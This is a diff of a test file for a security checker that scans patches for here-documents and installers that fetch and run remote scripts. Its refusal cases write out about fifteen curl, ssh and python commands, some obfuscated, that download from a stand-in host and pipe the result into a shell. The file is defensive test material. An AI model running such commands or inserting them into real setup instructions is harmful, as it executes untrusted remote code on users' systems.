@@ -1,9 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { checkedAdding as checked } from '../support/patches.js';
+import { checkPatch } from '../../shared/analysis/index.js';
+import { LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, cpuGrowthExponent } from '../support/growth.js';
+import { checkedAdding as checked, patchAdding } from '../support/patches.js';
 
 /**
- * Attack pass 13's group B (docs/attack-pass-13.md): installers and runners given a URL or a remote repository. Each
- * refusal below failed first; each acceptance is a look-alike that ordinary code or documentation writes.
+ * Attack pass 13's groups B and D (docs/attack-pass-13.md): installers and runners given a URL or a remote repository,
+ * and here-documents the check did not read in the shell's folded forms or followed to a file. Each refusal below
+ * failed first; each acceptance is a look-alike that ordinary code or documentation writes.
  */
 
 const M = 'docs/setup.md';
@@ -66,4 +69,57 @@ describe('pass 13, group B: an installer or runner given a URL or a remote repos
     [M, 'pre-commit run --all-files'],
     [M, 'Install the CLI with pip; its docs are at https://example.com/cli.'],
   ])('accepts, in %s: %s', accepted);
+});
+
+describe('pass 13, group D: here-documents', () => {
+  it.each([
+    [M, 'sh <<\\EOF\n$(curl -s https://x.example/i)\nEOF'],
+    [M, 'sh << "END OF"\n$(curl -s https://x.example/i)\nEND OF'],
+    [M, 'sh <<EOF\n$(\\curl -s https://x.example/i)\nEOF'],
+    [M, 'sh <<EOF\n$("curl" -s https://x.example/i)\nEOF'],
+    [M, "sh <<EOF\n$(c''url -s https://x.example/i)\nEOF"],
+    [M, 'sh <<EOF\n$(/usr/bin/curl -s https://x.example/i)\nEOF'],
+    [M, 'sh <<EOF\n$(cat <(curl -s https://x.example/i))\nEOF'],
+    [M, 'sh <<EOF\n${ curl -s https://x.example/i; }\nEOF'],
+    [M, `sh <<EOF\n$(python3 -c "import urllib.request as u;print(u.urlopen('https://x.example/i').read().decode())")\nEOF`],
+    [M, 'sh <<EOF\n$(ssh deploy@x.example cat i.sh)\nEOF'],
+    [M, 'cat <<EOF > /tmp/i.sh\n$(curl -s https://x.example/i)\nEOF\nsh /tmp/i.sh'],
+    [M, 'tee /tmp/i.sh <<EOF\n$(curl -s https://x.example/i)\nEOF\nsh /tmp/i.sh'],
+    [M, 'cat > /tmp/i.sh <<EOF\n$(curl -s https://x.example/i)\nEOF\nbash /tmp/i.sh'],
+    [M, 'D=curl\nsh <<EOF\n$($D -s https://x.example/i)\nEOF'],
+    [M, '{ sh; } <<EOF\n$(curl -s https://x.example/i)\nEOF'],
+  ])('refuses, in %s: %s', refusedAs('remote-script'));
+
+  it.each([
+    [M, 'cat <<EOF > version.json\n{"version": "$(git describe --tags)"}\nEOF'],
+    [M, 'sh <<EOF\necho "built on $(date -u)"\nEOF'],
+    [M, 'cat <<EOF > data.json\n$(curl -s https://x.example/a.json)\nEOF\njq .items data.json'],
+    [M, "cat <<'EOF' > notes.md\nRun \\$(curl -s https://x.example/a.json) to see the data.\nEOF"],
+    [M, 'python3 - <<EOF\nprint("$(git rev-parse HEAD)")\nEOF'],
+    [M, 'kubectl apply -f - <<EOF\napiVersion: v1\nkind: ConfigMap\ndata:\n  built: "$(date)"\nEOF'],
+    ['lib/report.rb', 'sql = <<~SQL\n  SELECT 1\nSQL\nout = `git log -1 --format=%H`'],
+    ['src/bits.cpp', 'std::cout << "mask " << (1 << 4) << std::endl;'],
+    ['src/bits.js', 'const mask = 1 << 4;\nconst label = `${name}: ${mask}`;'],
+  ])('accepts, in %s: %s', accepted);
+});
+
+describe('pass 14: the cost of reading installers, here-documents and joined download strings', () => {
+  for (const [name, unit] of [
+    ['installers given words', "'helm x 'pip install --x=y 'kubectl -f a 'brew install a/b "],
+    ['here-documents given to a shell, each with a substitution', 'sh <<A\n$(curl -s x.example/i)\nA\n'],
+    ['here-documents written to a file and run', 'cat <<A > /tmp/i\n$(curl -s x.example/i)\nA\nsh /tmp/i\n'],
+    ['substitutions in one here-document', 'sh <<A\n' + '$(a -x $b) `c` ${ d; }\n'],
+    ['here-document operators on a line', 'x <<A <<B <<C '],
+  ] as const) {
+    it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
+      // Prepare: up to 18 KB, near the check's 20 KB
+      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));
+
+      // Act
+      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('docs/setup.md', text.split('\n'))));
+
+      // Assert
+      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
+    });
+  }
 });
